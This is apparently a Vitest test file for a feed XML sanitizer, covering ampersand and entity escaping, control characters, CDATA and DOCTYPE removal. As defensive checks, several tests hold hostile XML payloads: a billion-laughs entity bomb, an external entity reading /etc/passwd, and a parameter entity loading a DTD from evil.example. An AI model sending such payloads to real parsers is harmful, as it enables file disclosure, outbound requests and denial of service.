import { describe, expect, it } from 'vitest';
import { sanitizeXml, UnsafeXmlError } from '../../src/feeds/sanitize.js';

describe('sanitizeXml', () => {
  it('escapes bare ampersands in text and attributes', () => {
    const { xml, report } = sanitizeXml('<item><title>Orange & SFR</title><link>https://e.fr/?a=1&b=2</link></item>');
    expect(xml).toBe('<item><title>Orange &amp; SFR</title><link>https://e.fr/?a=1&amp;b=2</link></item>');
    expect(report.bareAmpersands).toBe(2);
  });

  it('keeps the five XML entities and valid character references', () => {
    const input = '<t>&amp; &lt; &gt; &quot; &apos; &#233; &#xE9;</t>';
    expect(sanitizeXml(input).xml).toBe(input);
  });

  it('turns HTML named entities into numeric references the XML parser knows', () => {
    const { xml, report } = sanitizeXml('<t>d&eacute;j&agrave; &laquo;&nbsp;fini&nbsp;&raquo;</t>');
    expect(xml).toBe('<t>d&#233;j&#224; &#171;&#160;fini&#160;&#187;</t>');
    expect(report.htmlEntities).toBe(6);
  });

  it('escapes unknown entity names instead of failing on them', () => {
    expect(sanitizeXml('<t>&nimportequoi;</t>').xml).toBe('<t>&amp;nimportequoi;</t>');
  });

  it('removes XML-illegal control characters and references to them', () => {
    const { xml, report } = sanitizeXml('<t>a\u0001b\u000bc\u001fd\tе\n&#1;&#x1F;&#65;</t>');
    expect(xml).toBe('<t>abcd\tе\n&#65;</t>');
    expect(report.controlChars).toBe(3);
  });

  it('leaves CDATA sections and comments untouched', () => {
    const input = '<t><![CDATA[R&D <b>gras</b> &eacute;]]></t><!-- a & b -->';
    expect(sanitizeXml(input).xml).toBe(input);
  });

  it('escapes a "<" that cannot start markup', () => {
    expect(sanitizeXml('<t>moins de 5 < 10 et 3 <= 4</t>').xml).toBe('<t>moins de 5 &lt; 10 et 3 &lt;= 4</t>');
  });

  it('refuses internal entity declarations (billion laughs)', () => {
    expect(() => sanitizeXml('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><r>&b;</r>')).toThrow(UnsafeXmlError);
  });

  it('refuses external entities (XXE) and parameter entities', () => {
    expect(() => sanitizeXml('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')).toThrow(UnsafeXmlError);
    expect(() => sanitizeXml('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>')).toThrow(UnsafeXmlError);
  });

  it('removes a harmless DOCTYPE (RSS 0.91 DTD reference) without fetching anything', () => {
    const { xml, report } = sanitizeXml('<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"/>');
    expect(xml).toBe('<?xml version="1.0"?>\n\n<rss version="0.91"/>');
    expect(report.doctypeRemoved).toBe(true);
  });

  it('does not mistake the words of a CDATA section for a declaration', () => {
    expect(sanitizeXml('<t><![CDATA[Le tutoriel parle de <!ENTITY> et de XXE]]></t>').xml).toContain('<!ENTITY>');
  });

  it('strips a byte order mark and whitespace before the XML declaration', () => {
    expect(sanitizeXml('\ufeff  \n<?xml version="1.0"?><r/>').xml).toBe('<?xml version="1.0"?><r/>');
  });
});
